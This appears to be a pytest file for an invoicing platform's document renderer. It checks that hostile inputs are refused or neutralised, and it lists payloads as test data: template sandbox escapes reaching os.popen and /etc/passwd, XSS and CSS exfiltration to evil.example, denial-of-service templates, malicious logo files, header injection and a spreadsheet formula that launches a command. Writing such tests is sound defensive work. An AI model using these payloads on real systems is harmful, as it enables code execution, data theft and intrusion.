"""Hostile templates, pictures and names, all harmless here: none reads a file, asks the network, runs or hangs."""

from __future__ import annotations

import contextlib
import re
import time
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from billing_platform.lib.spreadsheet_cells import safe_cell
from invoicing.documents.cleaning import clean_html, css_problems
from invoicing.documents.html import Source, render_page
from invoicing.documents.samples import INVOICE
from invoicing.documents.sandbox import SECONDS
from invoicing.documents.template_engine import MAX_OUTPUT, TemplateRefused
from organisations import logos

REFUSED = {
    # out of the sandbox
    "class of a text": "{{ ''.__class__ }}",
    "class by item": "{{ ''['__class__'] }}",
    "class of a value": "{{ document.__class__.__mro__[1].__subclasses__() }}",
    "mro by attr filter": "{{ ''|attr('__class__')|attr('__mro__') }}",
    "name made of parts": "{{ document['__cl' ~ 'ass__'] }}",
    "method of a dict": "{{ document.items }}",
    "call of a method": "{{ document.values() }}",
    "call of a text's method": "{{ 'a'.join(['b']) }}",
    "globals of cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "globals of joiner": "{{ joiner.__init__.__globals__ }}",
    "globals of namespace": "{{ namespace.__init__.__globals__ }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'].environ }}",
    "template itself": "{{ self }}",
    "template's internals": "{{ self._TemplateReference__context }}",
    "loop's internals": "{% for line in lines %}{{ loop._iterator.gi_frame }}{% endfor %}",
    "loop's method": "{% for line in lines %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "context": "{{ context }}",
    "config": "{{ config }}",
    "settings": "{{ settings.SECRET_KEY }}",
    "request": "{{ request.META }}",
    "environment": "{{ environ }}",
    "dict": "{{ dict(a=1) }}",
    "format by %": "{{ '%s' % document }}",
    "format filter": "{{ '%s'|format(document) }}",
    "format method": "{{ '{0.__class__}'.format(document) }}",
    "map by attribute": "{{ lines|map(attribute='__class__')|list }}",
    "groupby": "{{ lines|groupby('__class__') }}",
    "xmlattr": "{{ {'onclick': 'x'}|xmlattr }}",
    "pprint": "{{ lines|pprint }}",
    "truncate's attribute": "{{ ''|truncate(1).__class__ }}",
    "letters that look alike": "{{ document.＿＿class＿＿ }}",
    "name that looks alike": "{{ ｓｅｌｆ }}",
    "join by an attribute": "{{ lines|join(',', attribute='__class__') }}",
    "caller": "{{ caller() }}",
    "tests as a way in": "{{ document is callable }}",
    "filter without arguments of its own": "{{ ''|first(1) }}",
    # files, other templates
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}",
    "from import": "{% from 'settings' import SECRET_KEY %}",
    "extends": "{% extends 'admin/base.html' %}",
    "escaping off": "{% autoescape false %}{{ customer.name }}{% endautoescape %}",
    "safe": "{{ customer.name|safe }}",
    "extension": "{% do 1 %}",
    # other tenants
    "another tenant": "{{ organisations }}",
    "the database": "{{ document._state.db }}",
    "the id of the customer": "{{ customer.id }}",
    # more than a page
    "endless range": "{% for n in range(10**9) %}{% endfor %}",
    "endless text": "{{ 'a' * 10**9 }}",
    "endless power": "{{ 9**9**9 }}",
    "huge number": "{{ 1 ** 999999999 }}",
    "joined text": "{% set a = '" + "a" * 60000 + "' %}{{ a|join(a) }}",
    "long concatenation": "{% set a = '" + "a" * 60000 + "' %}{{ " + " ~ ".join(["a"] * 60) + " }}",
    "texts in a text": "{% set a = '" + "a" * 9999 + "' %}" + "{% set b %}{{ a }}{% endset %}",
    "join in a loop": "{% for a in labels %}{% for b in labels %}{{ labels|join(labels|join) }}" + "{% endfor %}" * 2,
    "deep nots": "{{ " + "not " * 9000 + "x }}",
    "deep names": "{{ document" + ".a" * 9000 + " }}",
    "deep conditions": "{{ " + "1 if 1 else " * 3000 + "1 }}",
    "many else-ifs": "{% if 0 %}" + "{% elif 0 %}" * 9000 + "{% endif %}{{ x }}",
    "deep filters": "{{ 'a'" + "|upper" * 9000 + " }}",
    "wide centre": "{{ 'a'|center(1000000000) }}",
    "wide indent": "{{ 'a'|indent(1000000000) }}",
    "doubled text": "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 100 + "{{ a }}",
    "macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "loop that calls itself": "{% for x in lines recursive %}{{ loop(lines) }}{% endfor %}",
    "large output": "{% for a in labels %}{% for b in labels %}{% for c in labels %}" + "x" * 99 + "{% endfor %}" * 3,
    "deep brackets": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "deep ifs": "{% if true %}" * 3000 + "{% endif %}" * 3000,
    "deep lists": "{{ " + "[" * 3000 + "]" * 3000 + " }}",
    "long number": "{{ " + "9" * 6000 + " }}",
    "regex bomb": "{{ ('a' ~ '!')|urlize }}",
    "stripped tags": "{{ '<<<<<<<<'|striptags }}",
    "block": "{% block a %}{% endblock %}",
    "call block": "{% call m() %}{% endcall %}",
    "line statement": "{{ open('/etc/passwd') }}",
}


@pytest.mark.parametrize("html", REFUSED.values(), ids=REFUSED)
def test_a_hostile_template_is_refused_with_a_reason(html: str) -> None:
    with pytest.raises(TemplateRefused) as refused:
        render_page(INVOICE, source=Source(html=html))
    assert refused.value.message


HANGING = {
    "loops in loops": "{% for a in labels %}" * 8 + "{% endfor %}" * 8,
    "tags in tags": "{% for a in labels %}{% for b in labels %}{% for c in labels %}<div>" + "{% endfor %}" * 3,
    "tags that a parser opens again and again": "".join(f"<b class='a{number}'><p>" for number in range(3000)),
    "links in links": "{% for a in labels %}{% for b in labels %}<a href='https://x.example'><p>" + "{% endfor %}" * 2,
    "tables in tables": "<table><tr><td>" * 4000,
}


@pytest.mark.parametrize("html", HANGING.values(), ids=HANGING)
def test_what_takes_long_is_stopped_and_hangs_nobody(html: str) -> None:
    begun = time.monotonic()
    with contextlib.suppress(TemplateRefused):
        assert len(render_page(INVOICE, source=Source(html=html))) < 2 * MAX_OUTPUT
    assert time.monotonic() - begun < 4 * SECONDS  # not a measure: without the limits it would take hours


STRIPPED = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=alert(1)>",
    "event handler": "<p onclick='alert(1)'>x</p>",
    "broken image": "<img src=x onerror=alert(1)>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link as entities": "<a href='&#106;avascript:alert(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'>",
    "stylesheet": "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "frame of html": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='https://evil.example'></object>",
    "embed": "<embed src='https://evil.example'>",
    "form": "<form action='https://evil.example'><input name='card'><button>Pay</button></form>",
    "picture from elsewhere": "<img src='https://evil.example/pixel.png'>",
    "picture of svg": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "picture set": "<img srcset='https://evil.example/pixel.png 2x'>",
    "video": "<video poster='https://evil.example/x' src='https://evil.example/v'></video>",
    "background": "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
    "style attribute that asks": "<p style='background:url(https://evil.example)'>x</p>",
    "style attribute escaped": "<p style='background:u\\72l(https://evil.example)'>x</p>",
    "style element": "<style>@import 'https://evil.example';</style>",
    "math": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "end of our page": "</body></html><script>alert(1)</script>",
    "use in svg": "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
    "image in svg": "<svg><image href='https://evil.example/x.png'/></svg>",
    "animated link in svg": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "foreign object": "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
    "link to another part of the e-mail": "<a href='cid:evil'>x</a>",
    "part of the e-mail that is no logo": "<img src='cid:evil'>",
    "link without a scheme": "<a href='//evil.example'>x</a>",
    "picture in picture": "<picture><source srcset='https://evil.example/x'><img src='https://evil.example/x'></picture>",
    "audio": "<audio src='https://evil.example/x' autoplay></audio>",
    "portal": "<portal src='https://evil.example'></portal>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "style attribute with a url between texts": """<p style='a:"/*"; background:url(https://evil.example); b:"*/"'>""",
    "name that takes over a script's": "<p id='document' name='cookie'>x</p>",
    "ping": "<a href='#' ping='https://evil.example'>x</a>",
}
_DANGEROUS = re.compile(
    r"<(?!/?(?:p|a|table|tbody|tr|td|img)\b)\w|\son\w+=|javascript:|vbscript:|evil|data:|url\(", re.I
)


@pytest.mark.parametrize("html", STRIPPED.values(), ids=STRIPPED)
def test_html_that_runs_or_asks_is_taken_out(html: str) -> None:
    cleaned = clean_html(html)
    assert not _DANGEROUS.search(re.sub(r"&lt;.*?&gt;", "", cleaned)), cleaned


ASKING_CSS = {
    "url": "body { background: url(https://evil.example/x) }",
    "url in capitals": "body { background: URL('https://evil.example/x') }",
    "url split by a comment": "body { background: u/**/rl(https://evil.example) } p { background: url(x) }",
    "escaped url": "body { background: \\75rl(https://evil.example) }",
    "import": "@import 'https://evil.example/x.css';",
    "import with escape": "@\\69mport 'https://evil.example/x.css';",
    "font": "@font-face { font-family: x; src: local(x) }",
    "image set": "p { background: image-set('https://evil.example/x' 1x) }",
    "webkit image set": "p { background: -webkit-image-set('https://evil.example/x' 1x) }",
    "src": "p { content: src('https://evil.example') }",
    "amount leaks by attribute": ".total[title^='1'] { background: url(https://evil.example/1) }",
    "expression": "p { width: expression(alert(1)) }",
    "binding": "p { -moz-binding: url(x) }",
    "attr": "p::after { content: attr(title) }",
    "end of the style": "</style><script>alert(1)</script>",
    "charset": "@charset 'utf-7';",
    "namespace": "@namespace 'https://evil.example';",
    "url between comment signs in texts": 'p { content: "/*" } body { background: url(x) } p { content: "*/" }',
    "text without end": 'p { content: "/* } body { background: url(https://evil.example) } /* */ }',
    "end of the style in a comment": "/* </style><img src='https://evil.example/x'> */",
    "cross-fade": "p { background: cross-fade('https://evil.example/a', 50%) }",
    "element": "p { background: -moz-element(#a) }",
    "image": "p { background: image('https://evil.example/a') }",
    "paint": "p { background: paint(x) }",
    "property": "@property --x { syntax: '<url>'; inherits: false }",
    "layer": "@layer x;",
    "document": "@document url(https://evil.example) { p { color: red } }",
    "behaviour": "p { behavior: url(x.htc) }",
    "environment": "p { width: env(safe-area-inset-top) }",
    "open comment": "p { color: red } /* ",
    "nul": "p { color: \x00 }",
}


@pytest.mark.parametrize("css", ASKING_CSS.values(), ids=ASKING_CSS)
def test_css_that_asks_the_network_is_refused_with_its_line(css: str) -> None:
    assert next(css_problems(f"p {{ color: red }}\n{css}")).line == 2
    with pytest.raises(TemplateRefused):
        render_page(INVOICE, source=Source(css=css))


NAMES = {
    "template in a name": "{{ 7 * 7 }} {% for x in y %}",
    "script in a name": "<script>alert(1)</script>",
    "attribute in a name": '" onmouseover="alert(1)',
    "right to left": "Acme \u202e3202 gro.live",
    "line breaks": "Acme\r\nBcc: all@evil.example",
    "end of a template": "%} {% endfor %} {{ 7 * 7 }} {#",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "end of the page": "</main></body></html><script>alert(1)</script>",
    "letters of no width": "Ac\u200bme \u2066x\u2069",
    "style": "</style><style>@import 'https://evil.example'",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_hostile_name_is_only_printed(name: str) -> None:
    document = replace(INVOICE, customer=replace(INVOICE.customer, name=name))
    page = render_page(document, source=Source(html="<p title='{{ customer.name }}'>{{ customer.name }}</p>"))
    assert "49" not in page.partition("<body>")[2]
    assert "<script" not in page
    assert not re.search(r"<[^>\"']*\sonmouseover=", page)


def png(width: int, height: int) -> bytes:
    output = BytesIO()
    Image.new("1", (width, height)).save(output, "PNG")
    return output.getvalue()


def gif() -> bytes:
    output = BytesIO()
    Image.new("1", (1, 1)).save(output, "GIF")
    return output.getvalue()


LOGOS: dict[str, Any] = {
    "EPS that is a program": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file",
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "bomb": png(9000, 9000),
    "HTML": b"<html><script>alert(1)</script></html>",
    "damaged": png(10, 10)[:40],
    "PDF": b"%PDF-1.4 /JavaScript",
    "wide bomb": png(60000, 300),
    "empty": b"",
    "text of a path": b"/etc/passwd",
    "GIF": gif(),
    "too large a file": b"\x89PNG\r\n\x1a\n" + b"0" * logos.MAX_BYTES,
}


@pytest.mark.parametrize("content", LOGOS.values(), ids=LOGOS)
def test_a_hostile_logo_is_refused(content: bytes) -> None:
    with pytest.raises(ValidationError):
        logos.cleaned(content)


def test_a_picture_that_is_also_a_script_loses_the_script() -> None:
    _name, stored = logos.cleaned(png(10, 10) + b"<script>alert(1)</script>")
    assert b"script" not in stored


CELLS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("cell", CELLS)
def test_a_formula_in_a_cell_is_text(cell: str) -> None:
    assert safe_cell(cell) != cell


def test_the_attacks_are_counted() -> None:
    assert sum(map(len, (REFUSED, HANGING, STRIPPED, ASKING_CSS, NAMES, LOGOS, CELLS))) > 180
